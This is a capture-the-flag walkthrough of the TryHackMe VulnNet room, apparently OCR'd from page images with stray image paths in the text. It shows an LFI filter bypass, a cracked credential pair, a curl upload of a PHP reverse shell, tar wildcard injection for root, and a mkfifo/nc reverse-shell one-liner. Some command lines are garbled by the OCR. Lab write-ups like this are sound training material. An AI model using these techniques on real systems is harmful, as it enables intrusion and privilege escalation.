C R E A T E & D E S T R OY

VulnNet | TryHackMe

22/tcp open  ssh     OpenSSH 7.6p1 Ubuntu 4ubuntu0.3 (Ubuntu Linux; protocol 2.0)
| ssh-hostkey:
|   2048 ea:c9:e8:67:76:0a:3f:97:09:a7:d7:a6:63:ad:c1:2c (RSA)
|   256 0f:c8:f6:d3:8e:4c:ea:67:47:68:84:dc:1c:2b:2e:34 (ECDSA)
|_  256 05:53:99:fc:98:10:b5:c3:68:00:6c:29:41:da:a5:c9 (ED25519)
80/tcp open  http    Apache httpd 2.4.29 ((Ubuntu))
|_http-server-header: Apache/2.4.29 (Ubuntu)
|_http-title: VulnNet
Service Info: OS: Linux; CPE: cpe:/o:linux:linux_kernelInitial nmap results, let’s head to the web server…

In one of the Javascript files we find reference to http://broadcast.vulnnet.net so let’s add that to /etc/passwd and see what’s there.

We get thwacked with a basic authentication screen and it doesn’t seem so easy to bypass. Will return to the web server and see what else we can find first.


The other javascript file we can read has reference to an open PHP url, fuzzing with ffuf using an LFI list we find this endpoint is vulnerable to LFI. We just need a basic filter bypass (…//…//) and we can dump /etc/passwd.

The only user with a shell is server-management, there’s no ssh keys for the user we can grab. We can’t find accessible Apache access logs for poisoning, but we can check the .htpasswd file and see if we can get some users for the subdomain authentication…

We grab the username developers and the MD5 hash so let’s try and crack it.There we go, developers:9972761drmfsls is our creds. Let’s try the login form we saw earlier.

Exploit DB gives us a situation where we can exploit a module for unauthenticated file upload, so we’ll try a PHP reverse shell…

curl -F "file=@shell.php" -F "plupload=1" -F "name=shell.php" 'http://broadcast.vulnnet.thm/actions/beats_uploader.php' -H 'User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:102.0) Gecko/20100101 Firefox/102.0' -H 'Accept: text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8' -H 'Accept-Language: en-US,en;q=0.5' -H 'Accept-Encoding: gzip, deflate' -H 'Authorization: Basic ZGV2ZWxvcGVyczo5OTcyNzYxZHJtZnNscw=='

The uploader renames files, but visiting http://broadcast.vulnnet.thm/actions/CB_BEATS_UPLOAD_DIR gives us a directory list anyway, so with that we can start up our listener and pop a shell!

We find a file in /var/backups/ssh-backup.tar.gz owner by the user server-management so we can copy to /tmp and extract it.
The SSH key requires a passphrase so we can run it through SSH2John and see if we can crack the hash…

With that we can kill our www-data shell and be comfortable in an SSH session.

We find a script owned by root backing up our Documents folder regularly. The tarbackup command uses a wildcard so wecan easily exploit this.

server-management@vulnnet:/tmp$ cat /var/opt/backupsrv.sh
# Where to backup to.
# What to backup.
cd /home/server-management/Documents

Moving to our home directory we create the following files.

touch '--checkpoint=1'
touch '--checkpoint-action=exec=shshell.sh'
and finally a quick mkfifo reverse shell in shell.sh
rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/bash -i 2>&1|nc 1234 >/tmp/f

Allthat’s left to do is open another listener and wait for a call…

There’s our shell, and our root flag.

This was a nice room, with multiple not-too-complicated layers to getting a foothold.

Leave a Reply

Your email address will notbe published. Required fields are marked *